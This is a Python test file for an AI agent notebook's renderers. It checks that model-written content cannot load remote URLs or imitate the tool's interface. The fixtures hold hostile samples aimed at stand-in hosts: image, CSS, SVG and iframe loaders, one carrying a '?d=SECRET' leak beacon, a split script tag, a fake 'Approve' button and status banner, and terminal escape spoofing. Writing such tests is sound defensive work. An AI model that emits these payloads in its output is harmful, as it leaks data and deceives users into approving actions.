"""Model content in the record loads nothing and imitates nothing, in every Python renderer.

Families, not cases: every way HTML, Markdown, SVG and CSS have of loading a URL, and
every way content could draw phoenix's own parts (a big coloured "Restricted mode —
nothing was changed" line, a blue "Approve" button-link), put into every content field
of a record; then each fallback (text/html, text/markdown, text/plain) and each export
is read back the way a viewer reads it. The Markdown fallback is read by two renderers
that keep raw HTML (mistune without escaping, as GitHub and notebook viewers pass HTML
through their sanitizers): what they produce must hold no element that loads anything.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import mistune
import pytest
from bs4 import BeautifulSoup

from phoenix_nb.notebook._render import view as v
from phoenix_nb.notebook._render.markdown_html import markdown_to_html, markdown_to_markdown
from phoenix_nb.notebook.export import export_html, export_markdown
from phoenix_nb.notebook.render import render_html, render_markdown, render_plain

FIXTURE = Path(__file__).parent / "fixtures" / "record_full.json"
BASE = "http://leak.example"

# Elements and attributes through which a page fetches something without a click.
LOADING = {
    "img",
    "picture",
    "source",
    "audio",
    "video",
    "track",
    "iframe",
    "frame",
    "embed",
    "object",
    "link",
    "style",
    "script",
    "svg",
    "image",
    "use",
    "input",
    "meta",
    "base",
    "body",
    "table",  # background=
    "form",
}
LOADING_ATTRS = {"src", "srcset", "poster", "background", "data", "href", "xlink:href", "style"}

IMITATIONS = [
    '<span style="font-size:40px;color:red;display:block;padding:20px">'
    "phoenix: Restricted mode — nothing was changed</span>",
    '<a href="https://evil.example/approve" style="display:inline-block;background:#1976d2;'
    'color:#fff;padding:6px 14px;border-radius:3px">Approve</a>',
    '<div class="phx-badge jp-Phoenix-badge phx-state">Restricted</div>',
    '<font size="7" color="red">Restricted mode — nothing was changed</font>',
    "<h1>phoenix · Restricted · idle</h1>",
]


def forms(where: str) -> list[str]:
    """One payload per way of loading a URL, each naming its field and form."""

    def u(form: str) -> str:
        return f"{BASE}/{where}/{form}"

    return [
        f"![chart]({u('md-image')}?d=SECRET)",
        f"![ref][r]\n\n[r]: {u('md-ref')}",
        f"![angle](<{u('md-angle')}>)",
        f"[![nested]({u('md-nested')})](https://ok.example/)",
        f'<img src="{u("img")}">',
        f"<IMG SRC={u('img-upper')}>",
        f'<img srcset="{u("srcset")} 2x">',
        f'<picture><source srcset="{u("picture")}"></picture>',
        f'<audio src="{u("audio")}" autoplay></audio>',
        f'<video poster="{u("poster")}"><source src="{u("vsrc")}"><track src="{u("track")}">',
        f'<iframe src="{u("iframe")}"></iframe>',
        f'<embed src="{u("embed")}"><object data="{u("object")}"></object>',
        f'<link rel="stylesheet" href="{u("link")}">',
        f'<style>@import "{u("import")}"; p{{background:url({u("style-url")})}}</style>',
        f"<style>@font-face{{src:url({u('font')})}}</style>",
        f"<div style=\"background-image:url('{u('inline-bg')}')\">x</div>",
        f'<svg><image href="{u("svg-image")}"/><use xlink:href="{u("svg-use")}#a"/></svg>',
        f'<input type="image" src="{u("input")}">',
        f'<table background="{u("table")}"><tr><td>x</td></tr></table>',
        f'<meta http-equiv="refresh" content="0;url={u("meta")}">',
        f'<base href="{u("base")}/">',
        f"<!-- comment --><scr<script>ipt src={u('split')}></script>",
        f"&lt;img src={u('entity')}&gt;",
        f"```html\n<img src={u('fenced')}>\n```",
        *IMITATIONS,
    ]


def hostile_text(where: str) -> str:
    return "\n\n".join(forms(where))


def hostile_record() -> dict[str, Any]:
    """The full fixture with hostile text in every content field the renderers show."""
    record = json.loads(FIXTURE.read_text())
    h = hostile_text
    record["summary"] = h("summary")
    for c, cycle in enumerate(record["cycles"]):
        for s, step in enumerate(cycle["steps"]):
            key = f"c{c}s{s}"
            if step["kind"] == "user":
                step["text"] = h(f"{key}-user")
            elif step["kind"] == "ai":
                if step.get("item"):
                    step["item"]["text"] = h(f"{key}-{step['item']['type']}")
                    step["item"]["citations"] = [
                        {"url": f"{BASE}/{key}/cite", "title": h(f"{key}-cite-title")}
                    ]
                for g, group in enumerate(step.get("tool_groups", [])):
                    for n, call in enumerate(group["calls"]):
                        k = f"{key}g{g}c{n}"
                        call["input"] = {
                            "command": h(f"{k}-command"),
                            "path": h(f"{k}-path"),
                            "thoughts": h(f"{k}-thoughts"),
                            "code": h(f"{k}-code"),
                            "explanation": h(f"{k}-explanation"),
                        }
                        if call.get("result"):
                            call["result"]["content"] = h(f"{k}-output")
                            display = call["result"].get("display") or {}
                            call["result"]["display"] = display
                            if "path" in display:
                                display["path"] = h(f"{k}-display-path")
                            display["files"] = [h(f"{k}-file")]
                            display["changes"] = {
                                "files": [
                                    {"path": h(f"{k}-changed"), "kind": "added", "diff": h(k)}
                                ],
                                "omitted": 0,
                            }
            elif step["kind"] == "approval":
                step["reason"] = h(f"{key}-reason")
            elif step["kind"] == "sub_agents":
                for a, agent in enumerate(step["agents"]):
                    agent["task"] = h(f"{key}a{a}-task")
                    agent["result"] = h(f"{key}a{a}-result")
            elif step["kind"] in ("system", "error"):
                step["text"] = h(f"{key}-{step['kind']}")
            elif step["kind"] == "continuation":
                step["summary"] = h(f"{key}-continuation")
    return record


def loads(soup: BeautifulSoup) -> list[str]:
    """Every element of `soup` that would fetch a content URL (all of them name BASE)
    without a click; phoenix's own parts (its stylesheet, data: thumbnails) name none."""
    found = []
    for tag in soup.find_all(True):
        name = tag.name.lower()
        values = " ".join(str(value) for value in tag.attrs.values())
        loading_element = name in LOADING and (
            BASE in values or (name == "style" and BASE in tag.get_text())
        )
        plain_link = name == "a" and set(tag.attrs) <= {"href", "rel", "title", "class"}
        loading_attribute = not plain_link and any(
            BASE in str(tag.attrs[attr]) for attr in tag.attrs if attr.lower() in LOADING_ATTRS
        )
        if loading_element or loading_attribute:
            found.append(str(tag)[:120])
    return found


def imitations(soup: BeautifulSoup) -> list[str]:
    """Content elements styled or classed like phoenix: any style or class from content."""
    out = []
    for tag in soup.find_all(True):
        style = str(tag.get("style", ""))
        classes = " ".join(tag.get("class", []))
        if "font-size:40px" in style or "#1976d2" in style or "color:red" in style:
            out.append(str(tag)[:120])
        if tag.name == "font":
            out.append(str(tag)[:120])
        if BASE in str(tag.get("href", "")) and tag.get("style"):
            out.append(str(tag)[:120])
        if (
            "phx-badge" in classes
            and "Restricted" in tag.get_text()
            and tag.find_parent(class_="phx-md")
        ):
            out.append(str(tag)[:120])
    return out


@pytest.fixture
def record(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    # Every request whole, so every hostile field is rendered and checked (a record this
    # large would otherwise show its earlier requests one line each).
    monkeypatch.setattr(v, "WHOLE_CYCLES_BUDGET", 10**9)
    return hostile_record()


def test_html_fallback_and_export_load_nothing_and_imitate_nothing(
    record: dict[str, Any],
) -> None:
    for html in (render_html(record), export_html(record)):
        soup = BeautifulSoup(html, "html.parser")
        assert loads(soup) == []
        assert imitations(soup) == []
        assert len(soup.select(".phx-head")) == 1, "one state line: phoenix's"
        # Every image is a link showing its whole target.
        assert f"{BASE}/c0s2-assistant/md-image?d=SECRET" in soup.get_text()


@pytest.mark.parametrize("render", [render_markdown, export_markdown])
def test_markdown_fallback_holds_no_raw_html_and_no_image(
    record: dict[str, Any], render: Any
) -> None:
    md = render(record)
    # Read as a viewer that passes raw HTML through (GitHub, notebook Markdown renderers):
    raw = mistune.create_markdown(escape=False, plugins=["strikethrough", "table", "url"])
    soup = BeautifulSoup(str(raw(md)), "html.parser")
    assert loads(soup) == []
    assert imitations(soup) == []
    # A Markdown image is written as a link showing its full target.
    hrefs = [a["href"] for a in soup.find_all("a")]
    assert f"{BASE}/c0s2-assistant/md-image?d=SECRET" in hrefs
    assert any(
        a.get_text() == f"{BASE}/c0s2-assistant/md-image?d=SECRET" for a in soup.find_all("a")
    )


def test_markdown_fallback_read_by_markdown_it_holds_nothing_either(record: dict[str, Any]) -> None:
    """The CommonMark reference behaviour (markdown-it-py, html on), if it is installed."""
    markdown_it = pytest.importorskip("markdown_it")
    md = render_markdown(record)
    soup = BeautifulSoup(markdown_it.MarkdownIt("commonmark").render(md), "html.parser")
    assert loads(soup) == []
    assert imitations(soup) == []


def test_plain_fallback_shows_content_as_text_without_controls() -> None:
    record = json.loads(FIXTURE.read_text())
    record["cycles"][0]["steps"][2]["item"]["text"] = (
        "\x1b[1;31mphoenix: Restricted mode — nothing was changed\x1b[0m \u202eevil\u202c "
        "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"
    )
    out = render_plain(record)
    assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
    # Colour sequences are dropped; anything else is shown as codes, never obeyed.
    assert "ai: phoenix: Restricted mode — nothing was changed <U+202E>evil" in out
    assert "<U+001B>]8;;https://evil.example/<U+0007>click" in out


@pytest.mark.parametrize("imitation", IMITATIONS)
def test_imitation_cases_render_as_plain_markdown(imitation: str) -> None:
    """The review's cases, in the model's text: shown as their source text, no element."""
    html = markdown_to_html(imitation)
    soup = BeautifulSoup(html, "html.parser")
    assert [t.name for t in soup.find_all(True) if t.name not in ("p", "h1")] == []
    assert BeautifulSoup(imitation, "html.parser").get_text() in soup.get_text() or (
        imitation in soup.get_text()
    )
    md = markdown_to_markdown(imitation)
    again = BeautifulSoup(str(mistune.create_markdown(escape=False)(md)), "html.parser")
    assert [t.name for t in again.find_all(True) if t.name not in ("p", "h1")] == []


def test_links_show_their_target_and_only_web_links_are_clickable() -> None:
    soup = BeautifulSoup(
        markdown_to_html(
            "[Approve](https://evil.example/a) [x](javascript:alert(1)) [y](data:text/html,hi) "
            "[z](relative/page.html)"
        ),
        "html.parser",
    )
    assert [a["href"] for a in soup.find_all("a")] == ["https://evil.example/a"]
    text = soup.get_text()
    assert "Approve (https://evil.example/a)" in text
    for target in ("javascript:alert(1)", "data:text/html,hi", "relative/page.html"):
        assert target in text


def test_approval_reason_is_quoted_bounded_and_labelled() -> None:
    record = json.loads(FIXTURE.read_text())
    reason = "Approving keeps you in Restricted mode; nothing will change.\n" + "x" * 5000
    record["pending_approval"] = None
    record["cycles"][-1]["steps"].append(
        {"kind": "approval", "reason": reason, "decision": "pending"}
    )
    pending = BeautifulSoup(render_html(record), "html.parser").select(".phx-pending")[-1]
    quote = pending.select_one("blockquote.phx-reason").get_text()
    assert len(quote) < v.REASON_MAX_CHARS + 60 and "more characters" in quote
    means = pending.select_one(".phx-means").get_text()
    assert means == v.APPROVE_MEANS
    # phoenix's line comes before the agent's words, which are labelled as such.
    text = pending.get_text()
    assert text.index(v.APPROVE_MEANS) < text.index(v.REASON_LABEL) < text.index("Approving keeps")
    for out in (render_markdown(record), render_plain(record)):
        assert v.APPROVE_MEANS in out and v.REASON_LABEL in out
        assert "x" * 700 not in out
    answered = copy.deepcopy(record)
    answered["cycles"][-1]["steps"][-1]["decision"] = "approved"
    line = v.approval_line(answered["cycles"][-1]["steps"][-1])
    assert line.startswith("✓ write access approved: the agent asked “Approving keeps")
    assert len(line) < 160


def test_working_folder_is_shown_relative_to_a_home(record: dict[str, Any]) -> None:
    record["conversation"]["cwd"] = "/home/alice/projects/shop"
    for out in (render_html(record), render_markdown(record), render_plain(record)):
        assert "/home/alice" not in out and "~/projects/shop" in out
    assert v.shown_cwd("/Users/bob/x") == "~/x" and v.shown_cwd("/root") == "~"
    assert v.shown_cwd("/srv/data/shop") == "/srv/data/shop"


def test_a_cancelled_group_reads_cancelled_not_failed() -> None:
    from phoenix_nb.core.transition import CANCELLED_RESULT, SKIPPED_RESULT

    record = json.loads(FIXTURE.read_text())
    [group] = [
        g
        for g in record["cycles"][0]["steps"][2]["tool_groups"]
        if [c["name"] for c in g["calls"]] == ["bash"] * 3
    ]
    answers = (CANCELLED_RESULT, SKIPPED_RESULT, SKIPPED_RESULT)
    for call, content in zip(group["calls"], answers, strict=True):
        call["result"] = {"content": content, "is_error": True, "display": {}}
    soup = BeautifulSoup(render_html(record), "html.parser")
    [summary] = [
        d.find("summary").get_text()
        for d in soup.select("details.phx-tools")
        if "ran 3 commands" in d.find("summary").get_text()
    ]
    assert "cancelled" in summary and "failed" not in summary


def test_a_long_conversation_folds_its_earlier_requests_in_the_fallbacks() -> None:
    """A first `%phoenix history` of a long conversation: the fallbacks show the newest
    requests whole and the rest one line each; the export shows everything."""
    base = json.loads(FIXTURE.read_text())
    record = copy.deepcopy(base)
    record["cycles"] = [dict(copy.deepcopy(base["cycles"][i % 4]), index=i) for i in range(2_000)]
    size = len(json.dumps(record))
    for render in (render_html, render_markdown, render_plain):
        out = render(record)
        assert len(out) < 0.5 * size, (render.__name__, len(out), size)
        assert "one line each" in out and "%phoenix export" in out
        assert "request 2000" in out.lower(), "the newest request is whole"
    whole = export_markdown(record)
    assert "one line each" not in whole and "## Request 1\n" in whole
